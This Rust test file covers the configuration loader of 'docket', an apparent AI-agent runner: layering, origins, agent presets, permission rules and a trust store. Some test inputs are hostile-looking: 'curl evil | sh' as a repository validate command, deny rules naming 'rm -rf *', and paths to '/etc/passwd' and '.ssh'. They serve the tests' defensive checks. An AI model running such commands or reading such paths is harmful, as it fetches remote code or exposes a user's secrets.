//! The configuration through its public face: layers, origins, errors with their places, trust.
#![expect(
    clippy::expect_used,
    clippy::panic,
    reason = "the helpers of tests fail as tests do"
)]

use std::fmt::Write as _;
use std::fs;
use std::num::NonZeroU32;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use docket::config::keys::KEYS;
use docket::config::preset::Asks;
use docket::config::trust::{TrustStore, Verdict, commands};
use docket::config::{
    BorderStyle, Config, Decoder, Directories, Layer, Loaded, Origins, Overrides, PRESETS, Preset,
    Source, Variables, keys_as_markdown, keys_as_text, load, merge,
};
use docket::domain::item::Usage;
use docket::domain::prompt::PromptBudgets;
use docket::domain::rules::Rule;
use docket::domain::settings::{AgentKind, Claim, Integrate, Isolation, NobodyThere};
use docket::domain::ticket::{Approvals, Check, TicketLimits};

const USER: &str = "/home/ada/.config/docket/config.toml";
const REPOSITORY: &str = "/srv/api/docket.toml";

/// Merges texts of the user and of the repository, variables and flags; errors as lines, with short names for the files.
fn check(
    user: &str,
    repository: &str,
    variables: &[(&str, &str)],
    set: &[&str],
) -> Result<(Config, Origins), Vec<String>> {
    let overrides = Overrides {
        set: set.iter().map(ToString::to_string).collect(),
        ..Overrides::default()
    };
    merge(&[
        Source::Flags(&overrides),
        Source::User {
            path: Path::new(USER),
            text: user,
        },
        Source::Repository {
            path: Path::new(REPOSITORY),
            text: repository,
        },
        Source::Environment(&variables.iter().copied().collect()),
    ])
    .map_err(|errors| {
        let shorten = |line: &str| line.replace(USER, "user").replace(REPOSITORY, "repo");
        errors.to_string().lines().map(shorten).collect()
    })
}

fn sound(user: &str, repository: &str) -> Config {
    check(user, repository, &[], &[])
        .unwrap_or_else(|errors| panic!("{errors:#?}"))
        .0
}

#[track_caller]
fn broken(repository: &str, expected: &[&str]) {
    let errors = check("", repository, &[], &[]).expect_err("broken");
    assert_eq!(errors, expected);
}

#[test]
fn nothing_configured_gives_the_defaults() {
    let (config, origins) = merge(&[]).expect("defaults");
    assert_eq!(config.jobs.get(), 1);
    assert_eq!(config.isolation, Isolation::Worktree);
    assert_eq!(config.integrate, Integrate::Run);
    assert_eq!(config.agent.as_str(), "shell");
    assert_eq!(config.approvals, Approvals::Ask);
    assert_eq!(config.tickets, None);
    assert!(config.validate.is_empty());
    assert_eq!(config.limits.attempts, 2);
    assert_eq!(config.limits.wall, Duration::from_secs(3600));
    assert_eq!(config.limits.idle, Duration::from_secs(900));
    assert_eq!(config.limits.startup, Duration::from_secs(60));
    assert_eq!(config.limits.no_progress_turns, 3);
    assert_eq!(config.limits.tokens, None);
    assert_eq!(config.prompt, PromptBudgets::default());
    assert_eq!(config.ui.borders, BorderStyle::Auto);
    let agents: Vec<_> = config
        .agents
        .values()
        .map(|agent| (agent.name.as_str(), agent.kind))
        .collect();
    assert_eq!(
        agents,
        [
            ("claude", AgentKind::ClaudeStreamJson),
            ("claude-acp", AgentKind::Acp),
            ("codex", AgentKind::CodexAppServer),
            ("codex-acp", AgentKind::Acp),
            ("codex-exec", AgentKind::CodexExecJson),
            ("gemini", AgentKind::Acp),
            ("opencode", AgentKind::Acp),
            ("opencode-run", AgentKind::OpencodeRunJson),
            ("qwen", AgentKind::Acp),
            ("replay", AgentKind::Replay),
            ("shell", AgentKind::Shell),
            ("user", AgentKind::User)
        ]
    );
    assert_eq!(config.requests, NobodyThere::Pause);
    assert!(config.rules.is_empty());
    assert!(config.prices.is_empty());
    assert!(
        origins
            .iter()
            .all(|(_, sourced)| sourced.origin.layer() == Layer::BuiltIn)
    );
}

#[test]
fn later_layers_win_key_by_key_and_every_value_knows_its_origin() {
    let (config, origins) = check(
        "jobs = 2\napprovals = 'deny'\n[limits]\nwall = '2h'\nidle = '5m'\n",
        "jobs = 3\n[limits]\nwall = '3h'\nturns = 7\n",
        &[("DOCKET_JOBS", "4"), ("DOCKET_LIMITS_TURNS", "8")],
        &["jobs=5", "limits.cost_usd=1.5"],
    )
    .expect("sound");
    assert_eq!(config.jobs.get(), 5);
    assert_eq!(config.approvals, Approvals::Deny);
    assert_eq!(config.limits.wall, Duration::from_secs(3 * 3600));
    assert_eq!(config.limits.idle, Duration::from_secs(300));
    assert_eq!(config.limits.turns, 8);
    assert_eq!(config.limits.cost_usd, Some(1.5));

    let origin = |key: &str| origins.get(key).expect(key).origin.to_string();
    assert_eq!(origin("jobs"), "--set jobs=5");
    assert_eq!(origin("limits.turns"), "DOCKET_LIMITS_TURNS");
    assert_eq!(origin("limits.wall"), format!("{REPOSITORY}:3:1"));
    assert_eq!(origin("limits.idle"), format!("{USER}:5:1"));
    assert_eq!(origin("limits.attempts"), "built-in");
}

#[test]
fn origins_print_as_toml_with_comments_and_as_json() {
    let (_, origins) = check("", "jobs = 3\n", &[("DOCKET_UI_THEME", "day")], &[]).expect("sound");
    let text = origins.to_string();
    let line = |start: &str| text.lines().find(|line| line.starts_with(start));
    let jobs = line("jobs = 3 ").expect("a line for jobs");
    assert!(jobs.ends_with(&format!("# {REPOSITORY}:1:1")), "{jobs}");
    let parsed: toml::Table = text.parse().expect("what is printed can be written");
    assert_eq!(parsed["ui"]["theme"].as_str(), Some("day"));

    let json = serde_json::to_value(&origins).expect("JSON");
    let entry = |key: &str| {
        let entries = json.as_array().expect("a list").iter();
        entries.clone().find(|entry| entry["key"] == key).cloned()
    };
    assert_eq!(
        entry("jobs"),
        Some(serde_json::json!({
            "key": "jobs",
            "value": 3,
            "origin": {"layer": "repository", "path": REPOSITORY, "line": 1, "column": 1}
        }))
    );
    assert_eq!(
        entry("ui.theme").expect("theme")["origin"],
        serde_json::json!({"layer": "environment", "name": "DOCKET_UI_THEME"})
    );
}

#[test]
fn unknown_keys_name_their_place_and_what_was_meant() {
    broken(
        "\njob = 2\n",
        &["repo:2:1: unknown key `job`; did you mean `jobs`?"],
    );
    broken(
        "[limits]\n  wal = '1h'\n",
        &["repo:2:3: unknown key `limits.wal`; did you mean `limits.wall`?"],
    );
    broken(
        "wall = '1h'\n",
        &["repo:1:1: unknown key `wall`; did you mean `limits.wall`?"],
    );
    broken(
        "[agents.codex]\nkind = 'acp'\ncomand = ['x']\n",
        &["repo:3:1: unknown key `agents.codex.comand`; did you mean `agents.codex.command`?"],
    );
    broken("[quux]\nzap = 1\n", &["repo:1:2: unknown key `quux`"]);
}

#[test]
fn wrong_values_name_their_place_and_what_to_write() {
    broken(
        "jobs = 0\n",
        &["repo:1:8: `jobs` must be a whole number from 1; it is the number 0"],
    );
    broken(
        "jobs = '4'\n",
        &["repo:1:8: `jobs` must be a whole number from 1; it is the text \"4\""],
    );
    broken(
        "limits = { wall = 90 }\n",
        &[
            "repo:1:19: `limits.wall` must be a duration above zero such as \"90s\", \"10m\" or \"1h 30m\"; it is the number 90",
        ],
    );
    broken(
        "isolation = 'worktre'\n",
        &[
            "repo:1:13: `isolation` must be one of \"worktree\", \"none\"; it is the text \"worktre\" (did you mean \"worktree\"?)",
        ],
    );
    broken(
        "[agents.a]\nkind = 'command'\ncommand = './agent.sh now'\n",
        &[
            "repo:3:11: `agents.a.command` must be a list of a program and its arguments such as [\"codex\", \"app-server\"]; it is the text \"./agent.sh now\"",
        ],
    );
    broken(
        "[agents.a]\nkind = 'command'\ncommand = ['sh', 7]\n",
        &[
            "repo:3:18: `agents.a.command` must be a list of a program and its arguments such as [\"codex\", \"app-server\"]; it is the number 7",
        ],
    );
    broken(
        "limits = 5\n",
        &["repo:1:10: `limits` must be a table such as [limits]; it is the number 5"],
    );
}

#[test]
fn several_errors_of_several_layers_come_together_in_order() {
    let errors = check(
        "jobs = 'x'\nthem = 1\n",
        "nope\n",
        &[("DOCKET_JOBS", "many"), ("DOCKET_JOSB", "2")],
        &["isolaton=none"],
    )
    .expect_err("broken");
    let starts: Vec<_> = errors
        .iter()
        .map(|line| line.split(' ').take(4).collect::<Vec<_>>().join(" "))
        .collect();
    assert_eq!(
        starts,
        [
            "user:1:8: `jobs` must be",
            "user:2:1: unknown key `them`",
            "repo:1:5: not valid TOML:",
            "DOCKET_JOBS: `jobs` must be",
            "DOCKET_JOSB: unknown variable; did",
            "--set isolaton=none: unknown key",
        ],
        "{errors:#?}"
    );
}

#[test]
fn variables_that_are_no_settings_are_left_alone() {
    let variables = [
        ("DOCKET_ATTEMPT", "TICKET-001.1"),
        ("DOCKET_DESK", "/tmp/desk"),
        ("DOCKET_TICKET", "/tmp/desk/ticket.md"),
        ("DOCKET_TURN", "2"),
        ("DOCKET_SOMEBODY_ELSES", "x"),
        ("DOCKET_JOBS", ""),
        ("JOBS", "9"),
    ];
    let (config, _) = check("", "", &variables, &[]).expect("sound");
    assert_eq!(config.jobs.get(), 1);
    let errors = check("", "", &[("DOCKET_AGENTS_CODEX_COMMAND", "x")], &[]).expect_err("refused");
    assert_eq!(errors.len(), 1);
}

#[test]
fn variables_take_texts_bare_and_everything_else_as_toml() {
    let variables = [
        ("DOCKET_LIMITS_WALL", "90s"),
        ("DOCKET_UI_MOUSE", "false"),
        ("DOCKET_VALIDATE", "['cargo test']"),
        ("DOCKET_UI_COLOR", "256"),
    ];
    let (config, _) = check("", "", &variables, &[]).expect("sound");
    assert_eq!(config.limits.wall, Duration::from_secs(90));
    assert!(!config.ui.mouse);
    assert_eq!(config.validate[0].run, "cargo test");
    assert_eq!(config.ui.color.as_str(), "256");
}

#[test]
fn agents_are_merged_key_by_key() {
    let config = sound(
        "[agents.Codex]\nkind = 'codex-app-server'\ncommand = ['codex', 'app-server']\nenv = {A = '1', B = '2'}\n",
        "[agents.codex]\nenv = {B = '3'}\npass_env = ['CODEX_HOME']\nlimits.wall = '10m'\nfallback = ['mine']\n\
         [agents.mine]\nkind = 'command'\ncommand = ['./agent.sh']\n\
         [agents.demo]\nkind = 'replay'\nrecording = 'demo.jsonl'\ndecoder = 'codex-app-server'\nspeed = 0\n",
    );
    let agent = |name: &str| &config.agents[&name.parse().expect(name)];
    let codex = agent("codex");
    assert_eq!(codex.kind, AgentKind::CodexAppServer);
    assert_eq!(codex.command, ["codex", "app-server"]);
    assert_eq!(codex.env["A"], "1");
    assert_eq!(codex.env["B"], "3");
    assert_eq!(codex.pass_env, ["CODEX_HOME"]);
    assert_eq!(codex.claim, Claim::Ticket);
    assert_eq!(codex.limits.wall, Some(Duration::from_secs(600)));
    assert_eq!(agent("mine").claim, Claim::Exit);
    let demo = agent("demo");
    assert_eq!(demo.recording.as_deref(), Some(Path::new("demo.jsonl")));
    assert_eq!(demo.decoder, Decoder::CodexAppServer);
    assert!(demo.speed.abs() < f64::EPSILON);
    let settings = config.settings();
    assert_eq!(
        settings.agents[&codex.name].fallback,
        [agent("mine").name.clone()]
    );
}

/// The whole table as people read it: whoever changes a preset sees what changes for users.
#[test]
fn the_presets_are_as_written_down() {
    let mut text = String::new();
    for preset in PRESETS {
        let table = format!("agents.{}", preset.name);
        let (_, origins) = merge(&[]).expect("defaults");
        for (path, sourced) in origins.iter() {
            let key = path.to_string();
            if let Some(key) = key.strip_prefix(&format!("{table}."))
                && !matches!(key, "claim" | "fallback" | "private_home" | "sandbox")
            {
                let _ = writeln!(text, "{} {key} = {}", preset.name, sourced.value);
            }
        }
        let Preset {
            version, tested, ..
        } = preset;
        let _ = writeln!(
            text,
            "{} version {version:?} tested {tested:?} asks {:?} login {:?} {:?}",
            preset.name,
            preset.asks,
            preset.login.variables,
            preset
                .login
                .files
                .iter()
                .map(|file| format!("${}|{}/{}", file.variable, file.folder, file.file))
                .collect::<Vec<_>>()
        );
    }
    insta::assert_snapshot!("presets", text);
}

#[test]
fn the_guide_has_a_row_for_every_preset() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/AGENTS.md");
    let guide = fs::read_to_string(path).expect("docs/AGENTS.md");
    for preset in PRESETS {
        let asks = match preset.asks {
            Asks::Always => "yes",
            Asks::ByPreset => "yes, since docket tells it to",
            Asks::Never => "no: unsupervised",
        };
        let row = format!(
            "| `{}` | `{}` | {} | {asks} | {} | `{}` |",
            preset.name,
            preset.command.join(" "),
            preset.kind,
            preset.tested.join(", "),
            preset.install
        );
        assert!(
            guide.contains(&row),
            "put this row into docs/AGENTS.md:\n{row}"
        );
    }
}

#[test]
fn the_presets_make_sense() {
    for preset in PRESETS {
        let Preset { name, .. } = preset;
        assert_eq!(Preset::named(name), Some(preset));
        assert_eq!(
            Preset::of_program(preset.command[0], preset.kind).map(|found| found.command),
            Some(preset.command)
        );
        assert!(!preset.tested.is_empty(), "{name}");
        // What is looked for in the environment can be there, and no key is written down.
        for variable in preset.login.variables {
            assert!(preset.pass_env.contains(variable), "{name} {variable}");
        }
        for (variable, _) in preset.env {
            assert!(!preset.pass_env.contains(variable), "{name} {variable}");
            assert!(!variable.contains("KEY"), "{name} {variable}");
        }
        assert!(
            preset
                .instead_of
                .is_none_or(|name| Preset::named(name).is_some()),
            "{name}"
        );
    }
    assert_eq!(
        Preset::of_program("/opt/bin/codex", AgentKind::CodexExecJson).map(|preset| preset.name),
        Some("codex-exec")
    );
    assert_eq!(Preset::of_program("aider", AgentKind::Acp), None);
}

#[test]
fn presets_are_changed_key_by_key_and_forgotten_with_their_kind() {
    let (config, origins) = check(
        "[agents.codex]\nmodel = 'big'\n",
        "[agents.claude]\ncommand = ['./claude.sh']\nenv = {DISABLE_TELEMETRY = ''}\n\
         [agents.gemini]\nkind = 'command'\ncommand = ['./gemini.sh']\n",
        &[],
        &["agents.qwen.mode=yolo"],
    )
    .expect("sound");
    let agent = |name: &str| &config.agents[&name.parse().expect(name)];
    assert_eq!(agent("codex").command, ["codex", "app-server"]);
    assert_eq!(agent("codex").model.as_deref(), Some("big"));
    assert!(
        agent("codex")
            .pass_env
            .contains(&"OPENAI_API_KEY".to_owned())
    );
    let claude = agent("claude");
    assert_eq!(claude.command, ["./claude.sh"]);
    assert_eq!(claude.env["DISABLE_TELEMETRY"], "");
    assert_eq!(claude.env["DISABLE_AUTOUPDATER"], "1");
    assert_eq!(agent("qwen").mode.as_deref(), Some("yolo"));
    // It is another agent with the same name.
    assert!(agent("gemini").env.is_empty());
    assert!(agent("gemini").pass_env.is_empty());

    let origin = |key: &str| origins.get(key).expect(key).origin.layer();
    assert_eq!(origin("agents.codex.model"), Layer::User);
    assert_eq!(origin("agents.codex.kind"), Layer::BuiltIn);
    assert_eq!(
        origin("agents.claude.env.DISABLE_TELEMETRY"),
        Layer::Repository
    );
    assert_eq!(
        origin("agents.claude.env.DISABLE_BUG_COMMAND"),
        Layer::BuiltIn
    );
    assert_eq!(origin("agents.qwen.mode"), Layer::Flags);
    let untouched = |name: &str| origins.is_untouched(&name.parse().expect(name));
    assert!(untouched("opencode") && !untouched("codex") && !untouched("claude"));

    // What a repository changes of a preset needs trust as ever; the rest of the preset doesn't.
    let named: Vec<_> = commands(&origins)
        .into_iter()
        .map(|command| command.key.to_string())
        .collect();
    assert_eq!(
        named,
        [
            "agents.claude.command",
            "agents.claude.env.DISABLE_TELEMETRY",
            "agents.gemini.command"
        ]
    );
    broken(
        "[agents.codex]\nkind = 'acp'\n",
        &["repo:1:9: agent `codex` needs `command`, for example command = [\"opencode\", \"acp\"]"],
    );
}

#[test]
fn rules_come_from_all_layers_and_allow_needs_trust() {
    let (config, origins) = check(
        "[rules]\nallow = ['make']\ndeny = ['git push *', 'rm -rf *']\n",
        "[rules]\nallow = ['cargo *', 'edit:src/**', 'tool:WebFetch']\ndeny = ['git push *', 'edit:secrets/*']\n",
        &[("DOCKET_REQUESTS", "deny")],
        &[],
    )
    .expect("sound");
    let texts = |rules: &[Rule]| rules.iter().map(ToString::to_string).collect::<Vec<_>>();
    let allow = ["cargo *", "edit:src/**", "tool:WebFetch"];
    let deny = ["git push *", "rm -rf *", "edit:secrets/*"];
    assert_eq!(texts(&config.rules.allow), allow);
    assert_eq!(texts(&config.rules.deny), deny);
    assert_eq!(config.requests, NobodyThere::Deny);
    assert_eq!(config.settings().requests, NobodyThere::Deny);
    let named: Vec<_> = commands(&origins)
        .into_iter()
        .map(|command| command.key.to_string())
        .collect();
    assert_eq!(named, ["rules.allow"]);
    // A repository can't take away what its user denies.
    let config = sound("rules.deny = ['git push *']\n", "rules.deny = []\n");
    assert_eq!(texts(&config.rules.deny), ["git push *"]);

    broken(
        "[rules]\nallow = ['cargo test && ls']\n",
        &[
            "repo:2:10: `rules.allow` must be a list of rules such as [\"cargo *\", \"edit:src/**\", \"tool:WebFetch\"]; it is \
           the text \"cargo test && ls\" (an allow rule is held against one simple command, so `cargo test && ls` never \
           matches: write one rule for each command, without `;`, `&&`, `|`, `$`, quotes left open or redirections)",
        ],
    );
    let errors = check("", "rules.deny = ['Bash(git push:*)', 3]\n", &[], &[]).expect_err("two");
    assert!(errors[0].starts_with("repo:1:15:"), "{errors:#?}");
    assert!(errors[0].contains("another program"), "{errors:#?}");
    let errors = check("", "[rules]\nalow = []\n", &[], &[]).expect_err("misspelt");
    assert!(
        errors[0].contains("did you mean `rules.allow`?"),
        "{errors:#?}"
    );
}

#[test]
fn prices_are_a_table_of_models() {
    let (config, origins) = check(
        "[prices.\"gpt-5.5*\"]\ninput = 2\ncached = 0.5\noutput = 8.0\n[prices.mini]\ninput = 1\noutput = 1\n",
        "[prices.mini]\ninput = 3\n",
        &[],
        &["prices.\"gpt-5.5*\".output=10"],
    )
    .expect("sound");
    let usage = Usage {
        input: 2_000_000,
        cached: 1_000_000,
        output: 1_000_000,
        ..Usage::default()
    };
    let costs = |model: &str, expected: f64| {
        let cost = config.prices.cost(model, &usage).expect("a price");
        assert!((cost - expected).abs() < 1e-9, "{model}: {cost}");
    };
    costs("gpt-5.5-large", 2.0 + 0.5 + 10.0);
    costs("mini", 6.0 + 1.0);
    assert_eq!(config.prices.cost("other", &usage), None);
    let origin = |key: &str| origins.get(key).expect(key).origin.layer();
    assert_eq!(origin("prices.\"gpt-5.5*\".cached"), Layer::User);
    assert_eq!(origin("prices.\"gpt-5.5*\".output"), Layer::Flags);
    assert_eq!(origin("prices.mini.input"), Layer::Repository);

    broken(
        "[prices.mini]\ninput = 1\n",
        &[
            "repo:2:1: `prices.mini.output` is missing: a price needs `input` and `output`, in US dollars for a million tokens",
        ],
    );
    broken(
        "[prices.mini]\ninput = -1\n",
        &["repo:2:9: `prices.mini.input` must be a number from 0 such as 2.5; it is the number -1"],
    );
}

#[test]
fn agents_that_can_not_work_are_refused() {
    broken(
        "[agents.a]\n",
        &["repo:1:9: agent `a` needs `kind`, for example kind = \"command\""],
    );
    broken(
        "[agents.a]\nkind = 'acp'\n",
        &["repo:1:9: agent `a` needs `command`, for example command = [\"opencode\", \"acp\"]"],
    );
    broken(
        "agent = 'codx'\n[agents.codex]\nkind = 'acp'\ncommand = ['x']\n",
        &[
            "repo:1:1: `agent` names the agent `codx`, which is not configured; did you mean `codex`?",
        ],
    );
    broken(
        "[agents.shell]\nkind = 'command'\n",
        &[
            "repo:2:1: `shell` is built in and its `kind` stays `shell`; give your agent another name",
        ],
    );
    // A broken key isn't reported as a missing one too.
    broken(
        "[agents.a]\nkind = 'comand'\n",
        &[
            "repo:2:8: `agents.a.kind` must be one of \"user\", \"shell\", \"command\", \"replay\", \"codex-app-server\", \
             \"codex-exec-json\", \"claude-stream-json\", \"opencode-run-json\", \"acp\", \"terminal\"; it is the text \"comand\" (did you mean \"command\"?)",
        ],
    );
}

#[test]
fn checks_are_texts_or_tables() {
    let config = sound(
        "",
        "validate = ['cargo test', {name = 'lint', run = 'cargo clippy', timeout = '5m'}]\n",
    );
    let check = |name: &str, run: &str, timeout| Check {
        name: name.to_owned(),
        run: run.to_owned(),
        timeout,
    };
    let expected = [
        check("cargo test", "cargo test", None),
        check("lint", "cargo clippy", Some(Duration::from_secs(300))),
    ];
    assert_eq!(config.validate, expected);
    assert_eq!(config.settings().checks, expected);
    for (text, place) in [
        ("validate = ['']\n", "repo:1:13"),
        ("validate = [{run = 'x', timout = '5m'}]\n", "repo:1:25"),
        ("validate = [\n 'x',\n 5]\n", "repo:3:2"),
        ("validate = ['x', 'x']\n", "repo:1:12"),
        ("[validate]\nrun = 'x'\n", "repo:1:1"),
    ] {
        let errors = check_errors(text);
        assert!(
            errors.len() == 1 && errors[0].starts_with(&format!("{place}: `validate` must be")),
            "{text}: {errors:#?}"
        );
    }
}

fn check_errors(repository: &str) -> Vec<String> {
    check("", repository, &[], &[]).expect_err(repository)
}

#[test]
fn a_repository_may_not_point_out_of_itself() {
    for text in [
        "tickets = '../elsewhere'\n",
        "tickets = '/etc'\n",
        "[provision]\nsymlink = ['../../home/ada/.ssh']\n",
        "[agents.a]\nkind = 'replay'\nrecording = '/etc/passwd'\n",
    ] {
        assert_eq!(check_errors(text).len(), 1, "{text}");
    }
    // The user may, for what is theirs.
    let config = sound("tickets = '/plans'\n", "");
    assert_eq!(config.tickets, Some(PathBuf::from("/plans")));
    let config = sound("[agents.a]\nkind = 'replay'\nrecording = 'x.jsonl'\n", "");
    let recording = config.agents[&"a".parse().expect("name")].recording.clone();
    assert_eq!(
        recording,
        Some(PathBuf::from("/home/ada/.config/docket/x.jsonl"))
    );
}

#[test]
fn settings_give_the_limits_that_hold() {
    let config = sound(
        "",
        "[limits]\nturns = 5\ntokens = 1000\n[agents.replay]\nlimits = {turns = 6, idle = '1m'}\n",
    );
    let settings = config.settings();
    let agent = &settings.agents[&"replay".parse().expect("name")];
    let limits = settings
        .limits
        .overridden_by(&agent.limits)
        .overridden_by(&TicketLimits {
            idle: Some(Duration::from_secs(30)),
            ..TicketLimits::default()
        });
    assert_eq!(limits.turns, 6);
    assert_eq!(limits.idle, Duration::from_secs(30));
    assert_eq!(limits.tokens, Some(1000));
    let text = serde_json::to_string(&settings).expect("JSON");
    assert_eq!(
        serde_json::from_str::<docket::domain::settings::Settings>(&text).expect("back"),
        settings
    );
}

#[test]
fn the_table_of_keys_is_whole() {
    let (_, origins) = merge(&[]).expect("defaults");
    for key in KEYS {
        assert!(!key.meaning.ends_with('.'), "{}", key.name);
        assert!(keys_as_text().contains(key.name));
        assert!(keys_as_markdown().contains(&format!("| `{}` |", key.name)));
        // Every default is itself a sound value of its key, and is in force.
        if !key.name.contains('*') {
            assert_eq!(
                origins.get(key.name).is_some(),
                key.default.is_some(),
                "{}",
                key.name
            );
        }
    }
    let mut names: Vec<_> = KEYS.iter().map(|key| key.name).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), KEYS.len());
}

/// A home and a repository on disk.
struct Disk {
    _folder: tempfile::TempDir,
    directories: Directories,
    repository: PathBuf,
}

impl Disk {
    fn new() -> Self {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let root = folder.path();
        let directories = Directories {
            config: root.join("config/docket"),
            state: root.join("state/docket"),
        };
        let repository = root.join("repository");
        fs::create_dir_all(&directories.config).expect("config folder");
        fs::create_dir(&repository).expect("repository");
        Self {
            directories,
            repository,
            _folder: folder,
        }
    }

    fn write(&self, text: &str) {
        fs::write(self.repository.join("docket.toml"), text).expect("docket.toml");
    }

    fn load(&self) -> Result<Loaded, Vec<String>> {
        let variables = Variables::default();
        let overrides = Overrides {
            jobs: NonZeroU32::new(9),
            ..Overrides::default()
        };
        let repository = Some(self.repository.as_path());
        load(Some(&self.directories), repository, &variables, &overrides)
            .map_err(|errors| errors.iter().map(ToString::to_string).collect())
    }
}

#[test]
fn files_are_read_and_never_written() {
    let disk = Disk::new();
    let loaded = disk.load().expect("no files");
    assert_eq!(loaded.repository_file, None);
    assert_eq!(loaded.config.jobs.get(), 9);

    let user = disk.directories.config_file();
    let broken = "jobs = = 1\n# precious\n";
    fs::write(&user, broken).expect("user file");
    disk.write("[limit]\n");
    let errors = disk.load().expect_err("both broken");
    assert_eq!(errors.len(), 2, "{errors:#?}");
    assert!(
        errors[0].starts_with(&format!("{}:1:", user.display())),
        "{errors:#?}"
    );
    assert_eq!(fs::read_to_string(&user).expect("still there"), broken);

    fs::write(&user, b"\xff\xfe").expect("user file");
    fs::remove_file(disk.repository.join("docket.toml")).expect("remove");
    fs::create_dir(disk.repository.join("docket.toml")).expect("a folder in its place");
    let errors = disk.load().expect_err("both unreadable");
    assert!(errors[0].contains("UTF-8"), "{errors:#?}");
    assert!(errors[1].contains("can't be read"), "{errors:#?}");
}

#[test]
fn commands_of_a_repository_need_trust_by_content_and_place() {
    let disk = Disk::new();
    let store = TrustStore::new(&disk.directories);
    let verdict = |loaded: &Loaded| store.verdict(&disk.repository, loaded).expect("verdict");

    disk.write("jobs = 2\n[agents.demo]\nkind = 'replay'\nrecording = 'x.jsonl'\n");
    assert_eq!(verdict(&disk.load().expect("sound")), Verdict::NotNeeded);

    disk.write("validate = ['make check']\napprovals = 'auto'\n[provision]\nsetup = ['npm ci']\n");
    let loaded = disk.load().expect("sound");
    let named: Vec<_> = commands(&loaded.origins)
        .into_iter()
        .map(|command| format!("{} = {}", command.key, command.value))
        .collect();
    assert_eq!(
        named,
        [
            "approvals = \"auto\"",
            "provision.setup = [\"npm ci\"]",
            "validate = [\"make check\"]",
        ]
    );
    assert_eq!(verdict(&loaded), Verdict::Never);
    let hash = loaded.repository_file.as_ref().expect("file").hash;
    store.trust(&disk.repository, hash).expect("trust");
    store.trust(&disk.repository, hash).expect("twice is fine");
    assert_eq!(verdict(&loaded), Verdict::Trusted);
    assert!(verdict(&loaded).allows());

    // Another way to the same repository is the same repository.
    let link = disk.directories.config.join("link");
    std::os::unix::fs::symlink(&disk.repository, &link).expect("link");
    assert!(store.is_trusted(&link, hash).expect("through a link"));
    // A copy elsewhere is not.
    assert!(
        !store
            .is_trusted(&disk.directories.config, hash)
            .expect("elsewhere")
    );

    disk.write("validate = ['curl evil | sh']\n");
    assert_eq!(verdict(&disk.load().expect("sound")), Verdict::Changed);

    assert!(store.revoke(&disk.repository).expect("revoke"));
    assert!(!store.revoke(&disk.repository).expect("nothing left"));
    assert_eq!(verdict(&loaded), Verdict::Never);
}

#[test]
fn what_the_user_says_themselves_needs_no_trust() {
    let origins = |user: &str, repository: &str, set: &[&str]| {
        check(user, repository, &[], set).expect("sound").1
    };
    assert!(commands(&origins("validate = ['make']\n", "", &[])).is_empty());
    // A flag replaces what the repository names.
    assert!(
        commands(&origins(
            "",
            "validate = ['make']\n",
            &["validate=['true']"]
        ))
        .is_empty()
    );
    // What the repository adds to the user's agent counts.
    let added = origins(
        "[agents.a]\nkind = 'command'\ncommand = ['a']\n",
        "[agents.a]\nenv = {PATH = './bin'}\npass_env = ['TOKEN']\n",
        &[],
    );
    assert_eq!(commands(&added).len(), 2);
}

#[test]
fn the_trust_store_is_the_users_alone() {
    let disk = Disk::new();
    let store = TrustStore::new(&disk.directories);
    disk.write("validate = ['make']\n");
    let hash = disk
        .load()
        .expect("sound")
        .repository_file
        .expect("file")
        .hash;
    store.trust(&disk.repository, hash).expect("trust");
    let mut pending = vec![disk.directories.state.join("trust")];
    let mut files = 0;
    while let Some(path) = pending.pop() {
        let metadata = fs::metadata(&path).expect("metadata");
        assert_eq!(
            metadata.permissions().mode() & 0o077,
            0,
            "{}",
            path.display()
        );
        if metadata.is_dir() {
            let entries = fs::read_dir(&path).expect("folder");
            pending.extend(entries.map(|entry| entry.expect("entry").path()));
        } else {
            files += 1;
            fs::write(&path, "").expect("damage");
        }
    }
    assert_eq!(files, 1);
    assert!(!store.is_trusted(&disk.repository, hash).expect("damaged"));
}

#[test]
fn files_of_every_editor_are_read() {
    let config = sound(
        "\u{feff}jobs = 2\r\n[limits]\r\nturns = 3\r\n",
        "[[validate]]\nname = 'all'\nrun = '''\nmake\nmake check\n'''\n\n[agents.\"my agent\"]\nkind = 'command'\ncommand = ['x']\n[agents.'my agent'.env]\n'A.B' = ''\n",
    );
    assert_eq!((config.jobs.get(), config.limits.turns), (2, 3));
    assert_eq!(config.validate[0].name, "all");
    assert_eq!(config.validate[0].run, "make\nmake check\n");
    let agent = &config.agents[&"my agent".parse().expect("name")];
    assert_eq!(agent.env["A.B"], "");
    let nested = format!("jobs = {}1{}", "[".repeat(5000), "]".repeat(5000));
    assert_eq!(check_errors(&nested).len(), 1);
    let errors = check_errors(
        "jobs = 99999999999999999999\n[agents.A]\nkind = 'shell'\n[agents.a]\nkind = 'acp'\n",
    );
    assert_eq!(
        errors,
        [
            "repo:1:8: `jobs` must be a whole number from 1; it is the number 99999999999999999999",
            "repo:5:1: `agents.a.kind` is set twice in this file; keep one of them",
        ]
    );
}
